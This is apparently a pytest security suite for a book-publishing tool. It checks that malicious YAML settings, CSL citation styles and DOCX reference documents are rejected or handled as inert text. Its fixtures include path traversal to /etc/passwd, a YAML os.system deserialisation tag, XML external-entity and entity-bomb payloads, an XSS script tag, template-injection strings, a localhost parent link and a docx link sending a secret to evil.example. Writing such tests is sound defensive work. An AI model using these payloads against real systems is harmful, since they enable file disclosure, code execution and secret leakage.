"""`book.yaml`, citation styles and reference documents that try something: refused with the line, or data alone."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from quoteproof.book.config import read_book
from quoteproof.edition.docx import UnusableStylesError, reference_docx
from quoteproof.edition.facts import BookFacts
from quoteproof.engine.csl import style_fault
from tests.security.line import SECRET, book, run
from tests.security.test_chapters import printed
from tests.security.vector import Setting

SETTINGS = (
    Setting("csl-outside", "csl: ../outside/secret.txt", "must stay inside the book"),
    Setting("csl-absolute", "csl: /etc/passwd", "must be relative"),
    Setting("csl-home", "csl: ~/x.csl", "must be relative"),
    Setting("csl-drive", "csl: C:/x.csl", "must be relative"),
    Setting("reference-outside", "reference-document: ../x.docx", "must stay inside"),
    Setting("bibliography-outside", "bibliography: ../../x.bib", "must stay inside"),
    Setting("chapters-outside", "chapters: ../*.md", "must stay inside"),
    Setting("chapters-absolute", "chapters: [/etc/*]", "must be relative"),
    Setting("chapters-bomb", "chapters: '**/**/**/**/**/**/*.md'", "may have `**` once"),
    Setting("page-huge", "page: {width: 1e9mm}", "cannot be"),
    Setting("page-vast", "page: {width: 99999999mm}", "between 60mm and 1200mm"),
    Setting("page-nothing", "page: {height: 0mm}", "between 60mm and 1200mm"),
    Setting("page-negative", "page: {top: -5mm}", "cannot be"),
    Setting("page-margins", "page: {inner: 80mm, outer: 80mm}", "leave less than 40mm"),
    Setting("page-code", "page: {width: '#panic()mm'}", "cannot be"),
    Setting("language-code", "language: 'en\"]#panic()'", "cannot be"),
    Setting("tag", "author: !!python/object/apply:os.system ['id']", "tag"),
    Setting("alias", "author: &a [x]\ndate: *a", "anchors and aliases"),
    Setting("aliases-bomb", "a: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]", "anchors and aliases"),
    Setting("merge", "author: {<<: {x: y}}", "must be text"),
    Setting("twice", "author: a\nauthor: b", "stands twice", 3),
    Setting("documents", "author: a\n---\ntitle: b", "second document", 3),
    Setting("control", 'subtitle: "a\\x1b[2Jb"', "may not print"),
    Setting("bidi", 'author: "a\\u202eb"', "may not print"),
    Setting("noncharacter", 'date: "a\\uffffb"', "may not print"),
    Setting("private", 'subtitle: "\\ue000"', "may not print"),
    Setting("nul", 'subtitle: "a\\0b"', "may not print"),
    Setting("deep", "author: " + "[" * 60 + "]" * 60, "nested deeper"),
    Setting("unknown", "header-includes: '#panic()'", "unknown key"),
    Setting("outputs", "outputs: [exe]", "must be one of"),
)
HOSTILE = """title: 'A #panic() \\\\\\\\ <script>alert(1)</script> & ]]> {title} *b* $x$ @c </w:t>'
subtitle: '#read(sys.inputs.book) [x](y) *z* ../ %s {{}}'
author: ['A; B <b>', '#eval(1)', 'C, D']
date: '<date> & #datetime'
"""
CSL = """<?xml version="1.0" encoding="utf-8"?>%s
<style xmlns="http://purl.org/net/xbiblio/csl" version="1.0" class="in-text"><info><title>x</title><id>x</id>%s</info>%s
<citation><layout><text variable="title"/></layout></citation></style>"""
STYLES = {
    "external-entity": (CSL % ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;", ""), "document type"),
    "entity-bomb": (CSL % ('<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', "&b;", ""), "document type"),
    "parent": (CSL % ("", '<link rel="independent-parent" href="http://127.0.0.1:1/"/>', ""), "depends on another"),
    "parent-hidden": (CSL % ("", '<link rel="independent&#45;parent" href="x"/>', ""), "depends on another"),
    "loop": (CSL % ("", "", '<macro name="a"><text macro="a"/></macro>'), "calls itself"),
    "long-loop": (
        CSL % ("", "", '<macro name="a"><text macro="b"/></macro><macro name="b"><text macro="a"/></macro>'),
        "calls itself",
    ),
    "deep": (CSL % ("", "<a>" * 500 + "</a>" * 500, ""), "nested too deeply"),
    "no-xml": ("title: x", "not XML"),
    "html": ("<html/>", "page of the web"),
}
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.mark.parametrize("setting", SETTINGS, ids=lambda s: s.name)
def test_a_setting_is_refused_at_its_line(setting: Setting) -> None:
    _, errors = read_book(f"title: A Book\n{setting.text}\n")
    assert any(setting.says in error.message and error.position.line == setting.line for error in errors), errors


@pytest.mark.slow
@pytest.mark.timeout(1200)
def test_metadata_are_data_in_every_output(tmp_path: Path) -> None:
    root = book(tmp_path, {"book.yaml": HOSTILE}, {"one": "Words."})
    done = printed(root, run(root, "build", "--to", "pdf,docx,html"), ["one"])
    assert done.build.seen == done.build.asked == ()
    for name, parts in done.letters.items():
        for words in ("<script>alert(1)</script>&]]>{title}*b*$x$@c</w:t>", "#read(sys.inputs.book)[x](y)*z*../%s{{}}"):
            assert any(words in text for text in parts.values()), f"{words}: {name}"
    assert b"<script>alert" not in (root / "build/report.html").read_bytes()


@pytest.mark.parametrize(("style", "why"), STYLES.values(), ids=STYLES)
def test_a_style_is_refused(style: str, why: str) -> None:
    fault = style_fault(style)
    assert fault is not None
    assert why in fault.message


def test_a_sound_style_passes() -> None:
    assert style_fault(CSL % ("", "", '<macro name="a"><text variable="title"/></macro>')) is None


@pytest.mark.slow
@pytest.mark.parametrize("name", ["external-entity", "parent-hidden", "loop"])
def test_a_build_refuses_the_style(name: str, tmp_path: Path) -> None:
    settings = "title: A Book\ncsl: odd.csl\n"
    ran = run(book(tmp_path, {"book.yaml": settings, "odd.csl": STYLES[name][0]}), "build")
    assert (ran.status, ran.seen, ran.asked) == (1, (), ())
    assert STYLES[name][1] in ran.out


def reference(styles: str, more: dict[str, str] | None = None) -> bytes:
    """Make a reference document of some styles and further parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/styles.xml", f'<w:styles xmlns:w="{W}" xmlns:x="urn:x">{styles}</w:styles>')
        for name, text in (more or {}).items():
            archive.writestr(name, text)
    return out.getvalue()


STYLE = '<w:style w:type="paragraph" w:styleId="BodyText"><w:name w:val="Body Text"/><w:rPr>{}</w:rPr></w:style>'
HIDING = {
    "vanish": "<w:vanish/>",
    "web-hidden": "<w:webHidden/>",
    "strike": '<w:strike w:val="1"/>',
    "tiny": '<w:sz w:val="1"/>',
    "white": '<w:color w:val="FFFFFF"/>',
}


@pytest.mark.parametrize("hiding", HIDING.values(), ids=HIDING)
def test_a_style_that_hides_words_is_refused(hiding: str) -> None:
    with pytest.raises(UnusableStylesError):
        reference_docx(BookFacts("A Book"), reference(STYLE.format(hiding)))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"no zip"])
def test_what_is_no_document_is_refused(data: bytes) -> None:
    with pytest.raises(UnusableStylesError):
        reference_docx(BookFacts("A Book"), data)


def test_of_a_reference_document_only_styles_are_taken() -> None:
    more = {
        "word/vbaProject.bin": SECRET,
        "word/header1.xml": SECRET,
        "word/_rels/document.xml.rels": f'<x Target="https://evil.example/{SECRET}" TargetMode="External"/>',
        "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate/></w:settings>',
        "word/fonts/font1.odttf": SECRET,
    }
    given = reference(STYLE.format('<w:b/><x:evil x:a="1"/>'), more)
    plain = reference_docx(BookFacts("A Book"))
    with zipfile.ZipFile(io.BytesIO(reference_docx(BookFacts("A Book"), given))) as made, \
         zipfile.ZipFile(io.BytesIO(plain)) as own:  # fmt: skip
        assert made.namelist() == own.namelist()
        for name in set(own.namelist()) - {"word/styles.xml"}:
            # Running heads have tab stops of our own, since those of the styles need not fit the page.
            assert re.sub(rb"<w:tabs>.*?</w:tabs>", b"", made.read(name)) == own.read(name)
        styles = ElementTree.fromstring(made.read("word/styles.xml"))
    ids = [style.get(f"{{{W}}}styleId") for style in styles if style.tag == f"{{{W}}}style"]
    assert ids.count("BodyText") == 1
    assert "Imprint" in ids
    assert not any("urn:x" in element.tag for element in styles.iter())


def test_a_docx_of_the_program_is_a_reference_document() -> None:
    own = reference_docx(BookFacts("A Book"))
    with (
        zipfile.ZipFile(io.BytesIO(reference_docx(BookFacts("A Book"), own))) as made,
        zipfile.ZipFile(io.BytesIO(own)) as plain,
    ):
        ids = [re.findall(r'w:styleId="([^"]*)"', one.read("word/styles.xml").decode()) for one in (made, plain)]
    assert sorted(ids[0]) == sorted(ids[1])


def test_a_style_of_a_paragraph_without_words_is_always_the_programs_own() -> None:
    tiny = reference('<w:style w:type="paragraph" w:styleId="SectionEnd"><w:rPr><w:sz w:val="4"/></w:rPr></w:style>')
    with zipfile.ZipFile(io.BytesIO(reference_docx(BookFacts("A Book"), tiny))) as made:
        styles = made.read("word/styles.xml").decode()
    assert re.findall(r'styleId="SectionEnd".*?w:sz w:val="(\d+)"', styles, re.DOTALL) == ["2"]
